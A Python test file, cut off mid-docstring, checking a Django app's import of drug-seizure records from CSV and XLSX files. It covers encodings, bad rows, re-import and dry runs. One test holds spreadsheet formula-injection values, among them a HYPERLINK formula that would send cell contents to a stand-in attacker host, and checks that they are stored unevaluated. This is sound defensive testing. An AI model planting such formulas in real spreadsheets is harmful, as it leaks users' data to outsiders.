"""Import of seizures from CSV and XLSX: encodings, layouts, bad rows, re-import, dry run."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zoneinfo
from decimal import Decimal
from typing import Any

import pytest
from django.apps import apps

from blonet.audit.models import AuditEvent
from blonet.records.io import columns as cols
from blonet.records.io import readers
from blonet.records.io.imports import import_seizures
from blonet.records.models import (
    BankAccount,
    Container,
    Involvement,
    Person,
    Phone,
    Seizure,
    SeizureItem,
    Vehicle,
)

pytestmark = pytest.mark.django_db

ALMATY = zoneinfo.ZoneInfo("Asia/Almaty")
BASE = {
    "occurred_at": "2026-11-20 09:30",
    "site": "kz-kordai-bcp",
    "conveyance": "truck",
    "detection_method": "scanner",
    "distribution": "bilateral",
    "counterpart_country": "KG",
}


def row(**values: Any) -> dict[str, Any]:
    return {**BASE, **values}


def csv_bytes(
    rows: list[dict[str, Any]],
    *,
    columns: list[str] | None = None,
    encoding: str = "utf-8",
    delimiter: str = ",",
) -> bytes:
    names = columns or list(dict.fromkeys(k for r in rows for k in r))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(names)
    for r in rows:
        writer.writerow([r.get(n, "") for n in names])
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(sheets: dict[str, list[list[Any]]]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    for name, rows in sheets.items():
        ws = workbook.create_sheet(name)
        for r in rows:
            ws.append(r)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def run(user: Any, content: bytes, filename: str = "seizures.csv", **kwargs: Any) -> Any:
    kwargs.setdefault("office", "kz-kordai-blo")
    kwargs.setdefault("dry_run", False)
    return import_seizures(actor=user, content=content, filename=filename, **kwargs)


def problems(report: Any) -> list[tuple[int, str, str]]:
    return [(p.row, p.column, p.message) for p in report.problems]


def table_counts() -> dict[str, int]:
    """Rows in every table of the records app (history included) and in the audit log."""
    counts = {m._meta.label: m.objects.count() for m in apps.get_app_config("records").get_models()}
    counts["audit"] = AuditEvent.objects.count()
    return counts


TWO_SEIZURES = [
    row(seizure_ref="S1", commodity="heroin", quantity="12.5", unit="kg", purity="61%",
        markings="scorpion logo", agencies="kz-border-service;kz-customs", evaluation="B2",
        classification="restricted", origin_country="AF", transit_countries="TJ;KG",
        destination_country="RU", person1_name="Qurbonov Yusuf", person1_dob="1985-03-02",
        person1_nationality="TJ", person1_role="driver", vehicle_plate="01 KG 123 ABC",
        vehicle_country="KG", container_number="CSQU3054383", phone_number="+996 555 123 456"),
    row(seizure_ref="S1", commodity="hashish", quantity="800", unit="g"),
    row(seizure_ref="S2", occurred_at="2026-11-21 16:00", commodity="cash", quantity="15000",
        unit="currency", currency="usd", account_number="KZ86 125K ZT50 0410 0100",
        account_bank="Halyk", distribution="national", counterpart_country=""),
]  # fmt: skip


def test_utf8_csv_imports_seizures_items_and_entities(kz_officer):
    report = run(kz_officer, csv_bytes(TWO_SEIZURES))
    assert report.errors == []
    assert problems(report) == []
    assert report.counts() == {
        "rows": 3, "seizures": 2, "created": 2, "already_imported": 0, "rejected_seizures": 0,
        "rejected_rows": 0,
    }  # fmt: skip
    assert (report.format, report.encoding, report.delimiter) == ("csv", "utf-8", ",")
    s1 = Seizure.objects.get(reference=report.created[0].reference)
    assert s1.occurred_at == dt.datetime(2026, 11, 20, 9, 30, tzinfo=ALMATY)
    assert (s1.owner_office_id, s1.owner_country_id, s1.site_id) == (
        "kz-kordai-blo", "KZ", "kz-kordai-bcp"
    )  # fmt: skip
    assert (s1.distribution, s1.counterpart_country_id, s1.evaluation, s1.classification) == (
        "bilateral", "KG", "B2", 1
    )  # fmt: skip
    assert sorted(a.pk for a in s1.agencies.all()) == ["kz-border-service", "kz-customs"]
    assert (s1.origin_country, s1.transit_countries, s1.destination_country) == (
        "AF", ["TJ", "KG"], "RU"
    )  # fmt: skip
    assert [(i.commodity, i.quantity, i.unit, i.purity, i.markings) for i in s1.items.all()] == [
        ("heroin", Decimal("12.500"), "kg", Decimal("61.00"), "scorpion logo"),
        ("hashish", Decimal("800.000"), "g", None, ""),
    ]
    assert (s1.total_kg, s1.commodities, s1.import_key != "") == (
        Decimal("13.300"),
        "hashish heroin",
        True,
    )
    links = [(link.role, link.entity_kind, str(link.entity)) for link in s1.involvements.all()]
    assert links == [
        ("driver", "person", "Qurbonov Yusuf"),
        ("used", "vehicle", "01 KG 123 ABC · KG"),
        ("used", "container", "CSQU3054383"),
        ("used", "phone", "+996 555 123 456"),
    ]
    person = Person.objects.get()
    assert (person.dob, person.nationality, person.distribution, person.counterpart_country_id) == (
        "1985-03-02", "TJ", "bilateral", "KG"
    )  # fmt: skip
    assert Vehicle.objects.get().plate_normalised == "01KG123ABC"
    s2 = Seizure.objects.get(reference=report.created[1].reference)
    item = s2.items.get()
    assert (item.commodity, item.unit, item.currency, item.quantity_units) == (
        "cash", "currency", "USD", Decimal("15000.000")
    )  # fmt: skip
    account = BankAccount.objects.get()
    assert (account.is_iban, account.number_normalised, account.bank) == (
        True, "KZ86125KZT5004100100", "Halyk"
    )  # fmt: skip
    assert s2.distribution == "national"
    # The search finds the seizure by the driver's name in the other script.
    assert " курбонов" in s1.search_text or " kurbonov" in s1.search_text


def test_one_audit_event_per_run_with_counts_hash_and_ids_but_no_names(kz_officer):
    before = AuditEvent.objects.count()
    report = run(kz_officer, csv_bytes(TWO_SEIZURES))
    events = list(AuditEvent.objects.filter(seq__gt=before).order_by("seq"))
    assert [e.action for e in events] == ["records.import.run"]
    data = events[0].data
    assert (data["sha256"], data["created"], data["rows"], data["rejected_rows"]) == (
        report.sha256, 2, 3, 0
    )  # fmt: skip
    assert sorted(data["created_ids"]["seizure"]) == sorted(
        str(pk) for pk in Seizure.objects.values_list("pk", flat=True)
    )
    assert data["created_ids"]["person"] == [str(Person.objects.get().pk)]
    assert "Qurbonov" not in str(data) and "seizures.csv" not in str(data)


def test_windows_1251_csv_with_semicolons_and_decimal_commas(kz_officer):
    rows = [row(seizure_ref="R1", commodity="opium", quantity="2,5", unit="kg",
                person1_name="Курбонов Юсуф Рахимович", person1_role="courier",
                place="Пост Кордай, 3 км восточнее")]  # fmt: skip
    report = run(kz_officer, csv_bytes(rows, encoding="cp1251", delimiter=";"))
    assert (report.encoding, report.delimiter, problems(report)) == ("windows-1251", ";", [])
    seizure = Seizure.objects.get()
    assert seizure.place == "Пост Кордай, 3 км восточнее"
    assert seizure.items.get().quantity == Decimal("2.500")
    assert Person.objects.get().full_name == "Курбонов Юсуф Рахимович"


def test_utf8_with_bom_and_tab_separated_and_header_aliases(kz_officer):
    rows = [{"Seizure ref": "T1", "Occurred at": "30.11.2026 08:15", "Commodity": "Cannabis herb",
             "Quantity": "3", "Unit": "KG", "Person name": "Алиев Марат",
             "Conveyance": "Private car"}]  # fmt: skip
    content = b"\xef\xbb\xbf" + csv_bytes(rows, delimiter="\t")
    report = run(kz_officer, content, filename="export.txt")
    assert (report.encoding, report.delimiter, problems(report)) == ("utf-8-sig", "\t", [])
    seizure = Seizure.objects.get()
    assert (seizure.conveyance, seizure.items.get().commodity, seizure.items.get().unit) == (
        "private_car", "cannabis_herb", "kg"
    )  # fmt: skip
    assert seizure.occurred_at == dt.datetime(2026, 11, 30, 8, 15, tzinfo=ALMATY)
    assert Person.objects.get().full_name == "Алиев Марат"


def test_xlsx_flat_sheet_with_typed_cells(kz_officer):
    head = ["seizure_ref", "occurred_at", "site", "commodity", "quantity", "unit", "purity",
            "person1_name", "person1_dob", "lat", "lon"]  # fmt: skip
    content = xlsx_bytes({"Лист1": [
        head,
        ["X1", dt.datetime(2026, 11, 29, 22, 5), "kz-kordai-bcp", "methamphetamine", 1.25, "kg",
         40, "Ермеков Данияр", dt.date(1990, 7, 1), 43.21, 74.71],
        [None] * len(head),
        ["X1", dt.datetime(2026, 11, 29, 22, 5), "kz-kordai-bcp", "ecstasy", 500, "tablets"],
    ]})  # fmt: skip
    report = run(kz_officer, content, filename="seizures.xlsx")
    assert (report.format, report.layout, problems(report)) == ("xlsx", "flat", [])
    assert report.created[0].rows == [2, 4]  # the blank row 3 is skipped, numbers kept
    seizure = Seizure.objects.get()
    assert seizure.occurred_at == dt.datetime(2026, 11, 29, 22, 5, tzinfo=ALMATY)
    assert (seizure.lat, seizure.lon) == (Decimal("43.21000"), Decimal("74.71000"))
    assert [(i.commodity, i.quantity, i.purity) for i in seizure.items.all()] == [
        ("methamphetamine", Decimal("1.250"), Decimal("40.00")),
        ("ecstasy", Decimal("500.000"), None),
    ]
    assert Person.objects.get().dob == "1990-07-01"


def test_xlsx_related_sheets(kz_officer):
    content = xlsx_bytes({
        "seizures": [["seizure_ref", "occurred_at", "site", "conveyance", "distribution"],
                     ["A", "2026-11-28 10:00", "kz-kordai-bcp", "truck", "national"],
                     ["B", "2026-11-28 11:00", "kz-kordai-bcp", "bus", "national"]],
        "items": [["seizure_ref", "commodity", "quantity", "unit"],
                  ["A", "heroin", 4, "kg"], ["A", "opium", 2, "kg"],
                  ["B", "tramadol", 900, "tablets"],
                  ["C", "heroin", 1, "kg"]],
        "entities": [["seizure_ref", "kind", "role", "name", "dob", "plate", "country", "number"],
                     ["A", "person", "driver", "Саидов Фаррух", "1979", None, None, None],
                     ["A", "vehicle", "used", None, None, "777 ABC 02", "KZ", None],
                     ["B", "phone", "used", None, None, None, None, "+7 701 555 0101"],
                     ["B", "person", "passenger", None, None, "AB 123", None, None]],
    })  # fmt: skip
    report = run(kz_officer, content, filename="related.xlsx")
    assert report.layout == "related"
    held = "Not imported with its seizure: row 5 of the sheet “entities” has an error."
    assert [(p.sheet, p.row, p.column, p.value, p.message) for p in report.problems] == [
        ("seizures", 3, "seizure_ref", "B", held),
        ("items", 4, "seizure_ref", "B", held),
        (
            "items",
            5,
            "seizure_ref",
            "C",
            "No seizure with this seizure_ref on the sheet “seizures”.",
        ),
        ("entities", 4, "seizure_ref", "B", held),
        ("entities", 5, "name", "", "A person needs a name."),
        (
            "entities",
            5,
            "plate",
            "AB 123",
            "The column “plate” does not apply to this kind of entry (Person).",
        ),
    ]
    assert report.counts()["created"] == 1 and report.counts()["rejected_seizures"] == 1
    seizure = Seizure.objects.get()
    assert [i.commodity for i in seizure.items.all()] == ["heroin", "opium"]
    assert [(link.role, str(link.entity)) for link in seizure.involvements.all()] == [
        ("driver", "Саидов Фаррух"),
        ("used", "777 ABC 02 · KZ"),
    ]
    assert Phone.objects.count() == 0


BAD_ROWS = [
    row(seizure_ref="G1", commodity="heroin", quantity="1", unit="kg"),  # row 2: good
    row(seizure_ref="B1", commodity="heroin", quantity="-4", unit="kg"),  # row 3
    row(seizure_ref="B2", occurred_at="2031-01-01 10:00", commodity="opium", quantity="1",
        unit="kg"),  # row 4
    row(seizure_ref="B3", commodity="unobtainium", quantity="1", unit="kg"),  # row 5
    row(seizure_ref="B4", commodity="hashish", quantity="2", unit="kg",
        container_number="CSQU3054384"),  # row 6
    row(seizure_ref="B5", commodity="cash", quantity="900", unit="currency", currency="USD",
        account_number="KZ86125KZT5004100101"),  # row 7
    row(seizure_ref="B6", commodity="heroin", quantity="3", unit="bags"),  # row 8
    row(seizure_ref="B7", commodity="heroin", quantity="500", unit="t"),  # row 9
    row(seizure_ref="G2", commodity="cocaine", quantity="0.5", unit="kg",
        container_number="csqu 305438 3"),  # row 10: good (spaces are fine)
]  # fmt: skip


def test_bad_rows_are_rejected_with_row_column_and_reason_the_others_kept(kz_officer):
    report = run(kz_officer, csv_bytes(BAD_ROWS))
    assert [(p.row, p.column, p.value, p.message) for p in report.problems] == [
        (3, "quantity", "-4", "The quantity must be more than zero."),
        (4, "occurred_at", "2031-01-01 10:00", "The date is in the future."),
        (5, "commodity", "unobtainium", "Unknown commodity “unobtainium”."),
        (6, "container_number", "CSQU3054384", "check digit 4 is wrong: expected 3"),
        (7, "account_number", "KZ86125KZT5004100101",
         "the IBAN checksum fails: a character is mistyped"),
        (8, "unit", "bags",
         "Unknown unit “bags”: use g, kg, t, ml, l, tablets, pieces or currency."),
        (9, "quantity", "500", "500 t is more than any seizure on record: check the unit."),
    ]  # fmt: skip
    assert report.counts() == {
        "rows": 9, "seizures": 9, "created": 2, "already_imported": 0, "rejected_seizures": 7,
        "rejected_rows": 7,
    }  # fmt: skip
    assert sorted(Seizure.objects.values_list("items__commodity", flat=True)) == [
        "cocaine", "heroin"
    ]  # fmt: skip
    assert Container.objects.get().number_normalised == "CSQU3054383"
    assert BankAccount.objects.count() == 0


def test_a_bad_row_holds_back_the_other_rows_of_its_seizure(kz_officer):
    rows = [
        row(seizure_ref="M", commodity="heroin", quantity="1", unit="kg"),
        row(seizure_ref="M", commodity="opium", quantity="abc", unit="kg"),
        row(seizure_ref="M", commodity="hashish", quantity="2", unit="kg", site="kz-nowhere"),
        row(seizure_ref="N", commodity="heroin", quantity="1", unit="kg"),
    ]
    report = run(kz_officer, csv_bytes(rows))
    assert problems(report) == [
        (2, "seizure_ref", "Not imported with its seizure: row 3 has an error."),
        (3, "quantity", "The quantity is not a number."),
        (4, "site", "Differs from row 2 of the same seizure (“kz-kordai-bcp”)."),
    ]
    assert report.rows_rejected == 3
    assert [line.ref for line in report.created] == ["N"]


def test_reimporting_the_same_file_adds_nothing(kz_officer):
    content = csv_bytes(TWO_SEIZURES + BAD_ROWS[:2])
    first = run(kz_officer, content)
    before = table_counts()
    second = run(kz_officer, content)
    after = table_counts()
    assert (len(first.created), len(second.created)) == (3, 0)
    assert [(line.ref, line.reference) for line in second.already] == [
        (line.ref, line.reference) for line in first.created
    ]
    assert (
        problems(second)
        == problems(first)
        == [(6, "quantity", "The quantity must be more than zero.")]
    )
    assert after == {**before, "audit": before["audit"] + 1}  # only the run's own event
    # The same seizures in another file (other order, other sheet) are also known.
    reordered = run(kz_officer, csv_bytes(list(reversed(TWO_SEIZURES))), dry_run=True)
    assert (len(reordered.created), len(reordered.already)) == (0, 2)


def test_rows_without_seizure_ref_are_one_seizure_each_keyed_by_content(kz_officer):
    plain = [{k: v for k, v in r.items() if k != "seizure_ref"} for r in BAD_ROWS[:1]]
    other = row(commodity="opium", quantity="7", unit="kg")
    content = csv_bytes([*plain, other, plain[0]])
    first = run(kz_officer, content)
    assert [line.rows for line in first.created] == [[2], [3]]
    assert [(line.rows, line.note) for line in first.already] == [
        ([4], "The same as row 2 of this file.")
    ]
    again = run(kz_officer, content)
    assert (len(again.created), len(again.already)) == (0, 3)
    assert Seizure.objects.count() == 2


@pytest.mark.parametrize("method", ["bulk", "service"])
def test_dry_run_writes_nothing_and_agrees_with_the_real_run(kz_officer, method):
    content = csv_bytes(TWO_SEIZURES + BAD_ROWS)
    before = table_counts()
    preview = run(kz_officer, content, dry_run=True, method=method)
    assert table_counts() == before
    real = run(kz_officer, content, method=method)
    assert preview.counts() == real.counts()
    assert problems(preview) == problems(real)
    assert [line.rows for line in preview.created] == [line.rows for line in real.created]
    assert [line.reference for line in preview.created] == [""] * 4
    assert Seizure.objects.count() == 4


def test_formulas_in_cells_are_text_never_evaluated(kz_officer):
    rows = [
        row(seizure_ref="F1", commodity="heroin", quantity="1", unit="kg",
            narrative='=HYPERLINK("http://evil.example/?x="&A1,"click")', packaging="=1+2",
            markings="@SUM(A1:A9)"),
        row(seizure_ref="F2", commodity="heroin", quantity="=2+3", unit="kg"),
    ]  # fmt: skip
    report = run(kz_officer, csv_bytes(rows))
    assert problems(report) == [(3, "quantity", "The quantity is not a number.")]
    seizure = Seizure.objects.get()
    assert seizure.narrative == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    item = seizure.items.get()
    assert (item.packaging, item.markings) == ("=1+2", "@SUM(A1:A9)")


def test_xlsx_formula_cells_are_not_evaluated(kz_officer):
    content = xlsx_bytes({"data": [
        ["seizure_ref", "occurred_at", "commodity", "quantity", "unit", "narrative"],
        ["F", "2026-11-20 10:00", "heroin", "=2*3", "kg", "=CONCAT(\"a\",\"b\")"],
    ]})  # fmt: skip
    report = run(kz_officer, content, filename="f.xlsx")
    # openpyxl wrote no cached values: read with data_only=True the cells are empty.
    assert problems(report) == [(2, "quantity", "Give the quantity.")]
    assert Seizure.objects.count() == 0


def test_conflicting_values_and_bad_codes_are_reported(kz_officer):
    rows = [
        row(seizure_ref="C", commodity="heroin", quantity="1", unit="kg", evaluation="Z9",
            classification="top", agencies="kz-customs;xx-nobody", person1_role="driver"),
        row(seizure_ref="C", commodity="heroin", quantity="1", unit="kg", conveyance="bus"),
    ]  # fmt: skip
    report = run(kz_officer, csv_bytes(rows))
    assert problems(report) == [
        (2, "agencies", "Unknown agency: xx-nobody."),
        (2, "classification", "Unknown classification."),
        (2, "evaluation", "Write the evaluation as A, B, C or X and 1 to 4, e.g. B2."),
        (2, "person1_role", "A role needs the other columns of it."),
        (3, "conveyance", "Differs from row 2 of the same seizure (“truck”)."),
    ]


def without_reference(seizure: Any) -> str:
    """The seizure's search text without its reference and the reference's last part."""
    reference = seizure.reference.lower()
    return seizure.search_text.replace(reference, "").replace(reference.rsplit("-", 1)[-1], "")


def test_bulk_path_records_what_the_service_records(kz_officer, make_user):
    """The same file through `seizure_record` and through the bulk path gives equal rows."""
    from blonet.accounts.models import Posting

    Posting.objects.create(user=kz_officer, office_id="kz-zhetysu-accu", role="officer")
    kz_officer.__dict__.pop("_access_context", None)
    content = csv_bytes(TWO_SEIZURES + BAD_ROWS)
    by_service = run(kz_officer, content, office="kz-kordai-blo", method="service")
    by_bulk = run(kz_officer, content, office="kz-zhetysu-accu", method="bulk")
    assert by_service.counts() == by_bulk.counts()
    assert problems(by_service) == problems(by_bulk)
    skip = {"id", "reference", "owner_office", "owner_agency", "created_at", "updated_at",
            "import_key", "search_text", "seizure", "person", "vehicle", "container", "phone",
            "account"}  # fmt: skip

    def fields(obj: Any) -> dict[str, Any]:
        return {f.attname: getattr(obj, f.attname) for f in obj._meta.concrete_fields
                if f.name not in skip}  # fmt: skip

    for a_line, b_line in zip(by_service.created, by_bulk.created, strict=True):
        a = Seizure.objects.get(reference=a_line.reference)
        b = Seizure.objects.get(reference=b_line.reference)
        assert fields(a) == fields(b)
        assert without_reference(a) == without_reference(b)
        given = ["kz-border-service", "kz-customs"] if a_line.ref == "S1" else None
        assert sorted(x.pk for x in a.agencies.all()) == (given or ["kz-border-service"])
        assert sorted(x.pk for x in b.agencies.all()) == (given or ["kz-customs"])  # the office's
        assert [fields(i) for i in a.items.all()] == [fields(i) for i in b.items.all()]
        links_a, links_b = list(a.involvements.all()), list(b.involvements.all())
        assert [fields(x) for x in links_a] == [fields(x) for x in links_b]
        assert [fields(x.entity) for x in links_a] == [fields(x.entity) for x in links_b]
        assert [x.entity.search_text for x in links_a] == [x.entity.search_text for x in links_b]
        assert a.history.count() == b.history.count() == 1
        assert [i.history.count() for i in a.items.all()] == [1] * a.items.count()
        assert [i.history.count() for i in b.items.all()] == [1] * b.items.count()
        assert [x.history.count() for x in links_a] == [x.history.count() for x in links_b]
        assert [x.entity.history.count() for x in links_a] == [1] * len(links_a)
        assert [x.entity.history.count() for x in links_b] == [1] * len(links_b)
    assert SeizureItem.objects.filter(seizure__owner_office="kz-zhetysu-accu").count() == 5
    assert Involvement.objects.filter(seizure__owner_office="kz-zhetysu-accu").count() == 6


def test_an_office_the_user_is_not_posted_to_is_refused_and_nothing_written(kg_officer):
    before = table_counts()
    report = run(kg_officer, csv_bytes(TWO_SEIZURES))
    assert report.errors == ["You may record only for an office you are posted to."]
    assert report.created == []
    assert table_counts() == {**before, "audit": before["audit"] + 1}


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"", "a.csv", "The file is empty."),
        (b"\r\n ;; \r\n", "a.csv", "The file is empty."),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
            "a.csv",
            "This is not a text file: upload a CSV or an XLSX file.",
        ),
        (
            bytes(range(1, 32)) * 50,
            "a.csv",
            "This is not a text file: upload a CSV or an XLSX file.",
        ),
        (
            b"PK\x03\x04garbage-not-a-zip",
            "a.xlsx",
            "This is not an XLSX workbook that can be read: save it again as .xlsx.",
        ),
        (
            b"seizure_ref,occurred_at",
            "a.xlsx",
            "This is not an XLSX workbook: save it again from the spreadsheet.",
        ),
        (b"%PDF-1.4", "report.pdf", "Upload a .csv or .xlsx file (this one is “.pdf”)."),
        (
            b"S1,2026-11-20 10:00,heroin,1,kg\r\n",
            "a.csv",
            "The first row is not the template's header: none of its cells is a column of the "
            "template (row 1).",
        ),
        (
            b"seizure_ref,commodity,quantity\r\nS,heroin,1\r\n",
            "a.csv",
            "Required columns are missing: occurred_at, unit.",
        ),
        (
            b"commodity,Commodity,quantity\r\n",
            "a.csv",
            "The column commodity appears twice in the header.",
        ),
        (b'occurred_at,commodity,quantity,unit\r\n"2026-11-20,heroin\r\n', "a.csv", None),
    ],
)
def test_unreadable_files_get_one_clear_message_and_nothing_is_written(
    kz_officer, content, filename, message
):
    before = table_counts()
    report = run(kz_officer, content, filename=filename)
    if message is None:  # an unterminated quote: the csv module reads on to the end
        assert problems(report) == [
            (2, "commodity", "A seizure has at least one item."),
            (2, "occurred_at", "Give the date and time as YYYY-MM-DD HH:MM."),
        ]
    else:
        assert report.errors == [message]
    assert report.created == []
    assert table_counts() == {**before, "audit": before["audit"] + 1}


def test_unknown_columns_are_a_warning(kz_officer):
    rows = [row(commodity="heroin", quantity="1", unit="kg", colour_of_sky="blue", note2="x")]
    report = run(kz_officer, csv_bytes(rows))
    assert report.warnings == [
        "Columns that are not in the template are ignored: colour_of_sky, note2."
    ]
    assert len(report.created) == 1


def test_limits_on_size_and_rows(kz_officer, monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 3)
    rows = [row(commodity="heroin", quantity=str(n), unit="kg") for n in range(1, 5)]
    report = run(kz_officer, csv_bytes(rows))
    assert report.errors == ["The file has more than 3 rows: split it into smaller files."]
    monkeypatch.setattr(readers, "MAX_BYTES", 100)
    report = run(kz_officer, csv_bytes(rows[:1]) + b" " * 200)
    assert report.errors == ["The file is 0.0 MB; the limit is 0 MB: split it into smaller files."]


def test_the_template_columns_are_all_accepted_and_the_example_imports(kz_officer):
    from blonet.records.io.template import template_csv

    assert all(cols.is_known(c) for c in cols.TEMPLATE_COLUMNS)
    report = run(kz_officer, template_csv(), filename="template.csv")
    assert (report.errors, report.warnings, problems(report)) == ([], [], [])
    assert len(report.created) == 1
    seizure = Seizure.objects.get()
    assert [(x.role, x.entity_kind) for x in seizure.involvements.all()] == [
        ("driver", "person"), ("used", "vehicle"), ("used", "container"), ("used", "phone"),
    ]  # fmt: skip


# The pipelined write path: a batch is written by `bulk.Writer`'s thread on the run's connection
# while the next one is validated. Small batches make a small file span several of them.
PIPELINE_ROWS = [
    row(seizure_ref=f"P{n:02d}", commodity=("heroin", "opium", "hashish")[n % 3],
        quantity=str(n + 1), unit="kg", person1_name=f"Qurbonov Yusuf {n}",
        person1_dob="1985-03", person1_role="driver", vehicle_plate=f"01 KG {n:03d} ABC",
        vehicle_country="KG", distribution=("national", "bilateral")[n % 2],
        counterpart_country=("", "KG")[n % 2])
    for n in range(10)
] + [row(seizure_ref="P03", commodity="cash", quantity="900", unit="currency",
         currency="USD")]  # a second item of P03  # fmt: skip


def _with_pipeline(monkeypatch: Any, *, threaded: bool, batch: int = 2) -> None:
    import functools

    from blonet.records.io import imports

    monkeypatch.setattr(imports, "BATCH", batch)
    monkeypatch.setattr(
        imports, "_run_bulk", functools.partial(imports.__dict__["_run_bulk"], threaded=threaded)
    )


def _register() -> list[Any]:
    """Every seizure of the register with its items, agencies, links, entities and history,
    without what differs from one run to another (ids, uuids, references, times)."""
    skip = {"id", "reference", "created_at", "updated_at", "search_text", "seizure", "person",
            "vehicle", "container", "phone", "account", "organisation", "document"}  # fmt: skip

    def fields(obj: Any) -> dict[str, Any]:
        return {f.attname: getattr(obj, f.attname) for f in obj._meta.concrete_fields
                if f.name not in skip}  # fmt: skip

    out = []
    for s in Seizure.objects.order_by("import_key"):
        links = list(s.involvements.order_by("id"))
        out.append((
            fields(s),
            without_reference(s),
            sorted(a.pk for a in s.agencies.all()),
            [fields(i) for i in s.items.order_by("position")],
            [(fields(x), fields(x.entity), x.entity.search_text) for x in links],
            [h.history_type for h in s.history.all()],
            [[h.history_type for h in i.history.all()] for i in s.items.order_by("position")],
            [[h.history_type for h in x.history.all()] for x in links],
            [[h.history_type for h in x.entity.history.all()] for x in links],
        ))  # fmt: skip
    return out


def _report_view(report: Any) -> Any:
    seizures = report.created_ids.get("seizure", [])
    keys = {str(pk): key for pk, key in Seizure.objects.values_list("pk", "import_key")}
    return (
        report.counts(),
        problems(report),
        [(line.ref, line.rows, bool(line.reference)) for line in report.created],
        {kind: len(ids) for kind, ids in report.created_ids.items()},
        [keys[s] for s in seizures],  # in the order written
    )


@pytest.mark.postgres
def test_pipelined_import_records_what_the_sequential_one_does(kz_officer, monkeypatch):
    """Written by the writer thread or in turn: the same rows, history, report and ids."""
    from django.db import transaction

    content = csv_bytes(PIPELINE_ROWS + BAD_ROWS[1:3])
    seen = []
    for threaded in (False, True):
        _with_pipeline(monkeypatch, threaded=threaded)
        with transaction.atomic():
            report = run(kz_officer, content)
            seen.append((_report_view(report), _register(), table_counts()))
            transaction.set_rollback(True)
    assert Seizure.objects.count() == 0
    (report_seq, rows_seq, counts_seq), (report_thr, rows_thr, counts_thr) = seen
    assert report_thr == report_seq
    assert rows_thr == rows_seq
    assert counts_thr == counts_seq
    assert report_thr[0]["created"] == 10 and report_thr[0]["rejected_seizures"] == 2
    assert len(rows_thr) == 10 and counts_thr["records.Person"] == 10


def test_a_bad_row_in_batch_3_of_5_is_reported_and_the_other_batches_kept(kz_officer, monkeypatch):
    _with_pipeline(monkeypatch, threaded=True)
    rows = [dict(r) for r in PIPELINE_ROWS]
    rows[5]["quantity"] = "-1"  # P05: the second seizure of the third batch of two
    report = run(kz_officer, csv_bytes(rows))
    assert problems(report) == [(7, "quantity", "The quantity must be more than zero.")]
    assert report.counts()["created"] == 9
    refs = {line.ref for line in report.created}
    assert refs == {f"P{n:02d}" for n in range(10)} - {"P05"}
    assert Seizure.objects.count() == 9 and Person.objects.count() == 9
    assert SeizureItem.objects.count() == 10  # P03 has two
    assert len(report.created_ids["seizure"]) == 9
    again = run(kz_officer, csv_bytes(rows))
    assert (len(again.created), len(again.already)) == (0, 9)
    assert Seizure.objects.count() == 9


def test_a_failed_write_in_the_writer_thread_rolls_back_the_whole_run(kz_officer, monkeypatch):
    """What the database refuses in a batch reaches the run, which keeps nothing (as when
    written in turn): here the third batch repeats the first one's reference, as a concurrent
    import taking a reference between the run's check and its write would (the check, which
    draws such a reference again, is left out for the test)."""
    from blonet.records.io import bulk, imports

    _with_pipeline(monkeypatch, threaded=True)
    monkeypatch.setattr(imports, "_free_references", lambda ctx, batch, used: None)
    drawn: list[str] = []

    def reference(pool: Any, event: Any) -> str:
        drawn.append(f"KZ-2026-{len(drawn):08X}" if len(drawn) != 4 else drawn[0])
        return drawn[-1]

    monkeypatch.setattr(bulk.RandomPool, "reference", reference)
    before = table_counts()
    report = run(kz_officer, csv_bytes(PIPELINE_ROWS))
    assert report.errors == [
        "Another import of the same seizures ran at the same time; nothing was imported from "
        "this file. Run it again: what is already imported will be skipped."
    ]
    assert report.created_ids == {}
    assert len(drawn) < 10  # the run stopped at the refused batch
    assert table_counts() == {**before, "audit": before["audit"] + 1}  # the failed run's event


@pytest.mark.parametrize("threaded", [False, True])
def test_a_reference_already_taken_is_drawn_again(
    kz_officer, record_seizure, monkeypatch, threaded
):
    """References repeated inside a batch, across batches, or already in the register are
    drawn again; the report, the register and the search text carry the new ones."""
    from blonet.records.filters import SeizureFilter
    from blonet.records.io import bulk
    from blonet.records.selectors import seizure_list_visible_to

    _with_pipeline(monkeypatch, threaded=threaded)  # batches of 2
    stored = record_seizure(kz_officer)
    real = bulk.RandomPool.reference
    # draws: P00 (taken in the register), P01, P00 again (P01's), P00 once more, then P02
    # (batch 2) repeats batch 1's
    scripted = {0: stored.reference, 1: "KZ-2026-0000AAAA", 2: "KZ-2026-0000AAAA",
                4: "KZ-2026-0000AAAA"}  # fmt: skip
    draws: list[str] = []

    def reference(pool: Any, event: Any) -> str:
        draws.append(scripted.get(len(draws)) or real(pool, event))
        return draws[-1]

    monkeypatch.setattr(bulk.RandomPool, "reference", reference)
    report = run(kz_officer, csv_bytes(PIPELINE_ROWS))
    assert report.errors == []
    refs = [line.reference for line in report.created]
    seizures = len({r["seizure_ref"] for r in PIPELINE_ROWS})  # 10 (one has two items)
    assert len(refs) == seizures == len(set(refs))
    assert stored.reference not in refs and refs.count("KZ-2026-0000AAAA") == 1
    assert draws.count("KZ-2026-0000AAAA") == 3 and len(draws) == seizures + 3
    stored_refs = set(Seizure.objects.values_list("reference", flat=True))
    assert stored_refs == {*refs, stored.reference}
    qs = seizure_list_visible_to(user=kz_officer)
    for ref in refs:
        found = [x.reference for x in SeizureFilter({"q": ref}, queryset=qs).qs]
        assert found == [ref]
        short = ref.rsplit("-", 1)[-1]
        assert ref in [x.reference for x in SeizureFilter({"q": short}, queryset=qs).qs]


def _prepared(ctx: Any, rows: list[dict[str, Any]]) -> list[Any]:
    from blonet.records.io import bulk, mapping

    groups, _problems = mapping.group_rows(readers.read_source(csv_bytes(rows), "x.csv"))
    out = []
    for group in groups:
        mapping.build(group)
        key = mapping.import_key("kz-kordai-blo", group)
        out.append(bulk.prepare(ctx, group.data, group.items, group.involvements, key)[0])
    return out


@pytest.mark.postgres
def test_the_run_queries_while_a_batch_is_stored_wait_for_it(kz_officer, monkeypatch):
    """The connection serves one thread at a time: a query of the validating thread waits for
